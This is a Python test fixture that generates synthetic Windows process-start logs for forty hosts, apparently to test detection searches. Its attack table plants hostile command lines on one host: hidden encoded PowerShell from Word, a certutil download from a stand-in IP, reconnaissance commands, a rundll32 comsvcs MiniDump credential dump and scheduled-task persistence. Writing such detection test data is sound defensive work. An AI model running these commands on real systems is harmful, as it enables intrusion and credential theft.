"""Forty hosts and what runs there; then a document on ws-012 starts a shell, a download and a look around."""

from __future__ import annotations

import numpy as np
import polars as pl

from tests.searches.part import DAY_S, HOUR_S, Days, Part

TAGS = ("process", "report")
SAMPLE = {
    "dest": "srv-1",
    "user": "ann",
    "parent_process_name": "bash",
    "process_name": "rsync",
    "process_path": "/usr/bin/rsync",
    "original_file_name": "rsync",
    "process": "rsync -a /srv backup:/srv",
}
_HOSTS = 40
_SYSTEM = r"NT AUTHORITY\SYSTEM"
_OFFICE, _WINDOWS = r"C:\Program Files\Microsoft Office\root\Office16", r"C:\Windows\System32"
_USUAL = (
    # parent, program, folder, arguments; the last three run as SYSTEM
    ("explorer.exe", "chrome.exe", r"C:\Program Files\Google\Chrome\Application", "--type=renderer --id={}"),
    ("explorer.exe", "WINWORD.EXE", _OFFICE, r'/n "C:\Users\u{1}\Documents\note {0}.docx"'),
    ("explorer.exe", "EXCEL.EXE", _OFFICE, r'/e "C:\Users\u{1}\Documents\sheet {0}.xlsx"'),
    ("explorer.exe", "OUTLOOK.EXE", _OFFICE, "/recycle"),
    ("explorer.exe", "Teams.exe", r"C:\Users\u{1}\AppData\Local\Microsoft\Teams", "--process-start-args {}"),
    ("WINWORD.EXE", "splwow64.exe", r"C:\Windows", "{}"),
    ("services.exe", "svchost.exe", _WINDOWS, "-k netsvcs -p -s {}"),
    ("svchost.exe", "taskhostw.exe", _WINDOWS, "{{222A245B-E637-4AE9-A93F-A59CA119A75E}}"),
    ("svchost.exe", "backgroundTaskHost.exe", _WINDOWS, "-ServerName:App.{}"),
)
_TEMP = r"C:\Users\u12\AppData\Local\Temp"
_POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0"
_ATTACK = (
    # seconds after the beginning, parent, program, folder, original name, command
    (0, "WINWORD.EXE", "cmd.exe", _WINDOWS, "Cmd.Exe", "cmd.exe /c powershell -w hidden -nop -enc {code}"),
    (1, "cmd.exe", "powershell.exe", _POWERSHELL, "PowerShell.EXE", "powershell -w hidden -nop -enc {code}"),
    (
        9,
        "powershell.exe",
        "certutil.exe",
        _WINDOWS,
        "CertUtil.exe",
        "certutil -urlcache -f http://203.0.113.5/a {temp}",
    ),
    (15, "powershell.exe", "upd83.exe", _TEMP, "loader.exe", "{temp} -p 8443 -k {code}"),
    (90, "upd83.exe", "whoami.exe", _WINDOWS, "whoami.exe", "whoami /all"),
    (95, "upd83.exe", "nltest.exe", _WINDOWS, "nltestrk.exe", "nltest /domain_trusts"),
    (101, "upd83.exe", "net.exe", _WINDOWS, "net.exe", 'net group "Domain Admins" /domain'),
    (140, "upd83.exe", "rundll32.exe", _WINDOWS, "RUNDLL32.EXE", "rundll32 comsvcs.dll, MiniDump 624 {temp}"),
    (300, "upd83.exe", "schtasks.exe", _WINDOWS, "schtasks.exe", "schtasks /create /sc minute /tn upd /tr {temp}"),
)


def part(days: Days) -> Part:
    """Process starts, with the command line and the parent's name."""
    rng = np.random.default_rng(days.seed)
    rows = 1_200 * days.count
    host = rng.integers(_HOSTS, size=rows)
    kind = (host + rng.zipf(1.8, rows)) % len(_USUAL)
    number = rng.integers(10_000, size=rows)
    busy_s = rng.triangular(6, 13, 21, rows) * HOUR_S
    quiet = {
        "_time": days.starts_s + rng.integers(days.count, size=rows) * DAY_S + np.floor(busy_s),
        "dest": [f"ws-{at:03d}" for at in host],
        "user": [_SYSTEM if which > 5 else f"u{at}" for at, which in zip(host, kind, strict=True)],
    }
    quiet |= _columns([_usual(*told) for told in zip(kind, host, number, strict=True)])
    told = [_planted(rng, *one[1:]) for one in _ATTACK]
    attack = {
        "_time": [days.last_day_s + 10 * HOUR_S + 1_200.0 + one[0] for one in _ATTACK],
        "dest": ["ws-012"] * len(told),
        "user": ["u12"] * len(told),
    }
    events = pl.concat([pl.DataFrame(quiet), pl.DataFrame(attack | _columns(told))])
    return Part(events.sort("_time"), (("system", "ws-012"), ("user", "u12")))


def _usual(which: int, host: int, number: int) -> tuple[str, ...]:
    parent, program, folder, arguments = _USUAL[which]
    path = rf"{folder.format('', host)}\{program}"
    return parent, program, path, program, f'"{path}" {arguments.format(number, host)}'


def _planted(
    rng: np.random.Generator, parent: str, program: str, folder: str, original: str, command: str
) -> tuple[str, ...]:
    alphabet = np.array(list("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"))
    code = "".join(rng.choice(alphabet, 600))
    return parent, program, rf"{folder}\{program}", original, command.format(code=code, temp=rf"{_TEMP}\upd83.exe")


def _columns(rows: list[tuple[str, ...]]) -> dict[str, list[str]]:
    names = ("parent_process_name", "process_name", "process_path", "original_file_name", "process")
    return {name: [row[at] for row in rows] for at, name in enumerate(names)}
